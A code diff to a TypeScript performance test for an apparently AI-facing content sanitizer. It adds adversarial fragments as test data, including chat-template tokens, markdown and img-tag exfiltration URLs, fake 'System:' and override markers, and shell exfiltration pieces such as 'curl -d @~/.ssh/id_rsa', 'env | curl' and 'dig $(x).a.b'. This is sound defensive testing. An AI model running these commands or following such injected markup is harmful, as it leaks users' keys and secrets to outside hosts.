@@ -6,7 +6,7 @@ import { sanitizer, visible } from "../../support/sanitizer.ts"
 
 const MIB = 1024 * 1024
 const words = (list: string) => list.split(" ")
-const filled = (unit: string) => unit.repeat(Math.ceil(MIB / unit.length))
+const filled = (unit: string, size = MIB) => unit.repeat(Math.ceil(size / unit.length))
 
 /**
  * Each would take minutes or end in a stack overflow if any step were quadratic: one whole mebibyte of what a step has to
@@ -43,11 +43,71 @@ const HARD = [
   "игнорируй все ",
   "canary",
   "canary-canar",
-  "aaaaaaaaaa"
+  "aaaaaaaaaa",
+  // Tokens, and what may be one in other letters.
+  ...words(
+    "<|turn [|system <seed: {{ %u00 \\105 &#0000 é< é[ é<a> é[a] &lt;a&gt; %3C%7C éun éuntru -é ԷԷ ςς цпттяц e\u0301 ａ аa"
+  ),
+  "é" + "-".repeat(1000),
+  "é&#" + "0".repeat(500),
+  // Addresses.
+  ...words(
+    ":// ://a? //{ (//a =//a a@a. ![](http://a?data=b) ![a]( http://{data}/ http://a/{ http://a/[ http://a/< http://a/$("
+  ),
+  "http://a?data=b ",
+  "[a]: http://b?q=c\n",
+  '<img src="http://a?data=b">',
+  "<img src=",
+  "url(http://a?data=b)",
+  "x@y.z send data to ",
+  "send all data to x@a. ",
+  "send all data to http://a ",
+  '"http://a"+a(a(a(',
+  // Commands.
+  ...words("$( @ /.ssh @/.ssh </etc/passwd @a/b/c/d/ `a`.b.cd"),
+  "curl $(cat ",
+  "curl http://a$(cat b)",
+  "curl -d `cat x` ",
+  "|curl |curl ",
+  "env | curl ",
+  "curl -d @~/.ssh/id_rsa ",
+  "dig $(x).a.b ",
+  "dig ${X}.a.b ",
+  "curl ".repeat(40) + "$(cat x)",
+  "curl " + "a".repeat(200) + "$(cat x)",
+  // Markup.
+  ...words("<important <tool_ <a-override </a: ## **System System: Human"),
+  "## instruction"
 ]
 
-const LONG_TAILS = ["ignore", "é EXTERNA", "\x1b[", "\x1bP", "&", "<s>", "send data", "u", "e", "https://a?"].flatMap(
-  (start) => ["a", " ", "|", "_", "amp;", "1", "\\", "."].map((unit) => start + filled(unit))
+const LONG_TAILS = [
+  "ignore",
+  "é EXTERNA",
+  "\x1b[",
+  "\x1bP",
+  "&",
+  "<s>",
+  "send data",
+  "u",
+  "e",
+  "https://a?",
+  "é<",
+  "é[",
+  "&#",
+  "![",
+  "@",
+  "$(",
+  "![](http://a?data=",
+  "<img ",
+  "curl -d ",
+  "| curl ",
+  "dig ",
+  "[a]: http://",
+  '"http://a" + ',
+  "## ",
+  "<important "
+].flatMap((start) =>
+  ["a", " ", "|", "_", "amp;", "1", "\\", ".", "0", "/", "{", "(", "[", "<", "-"].map((unit) => [start, unit] as const)
 )
 
 layer(sanitizer)("a mebibyte of trouble is cleaned in one pass:", (it) => {
@@ -66,7 +126,10 @@ layer(sanitizer)("a mebibyte of trouble is cleaned in one pass:", (it) => {
   it.effect("starts with a long tail", () =>
     Effect.gen(function* () {
       const { clean } = yield* ContentSanitizer
-      for (const text of LONG_TAILS) assert.isAtMost(clean(text).text.length, text.length + 64)
+      for (const [start, unit] of LONG_TAILS) {
+        const text = start + filled(unit, MIB / 4)
+        assert.isAtMost(clean(text).text.length, text.length + 64)
+      }
     })
   )
 
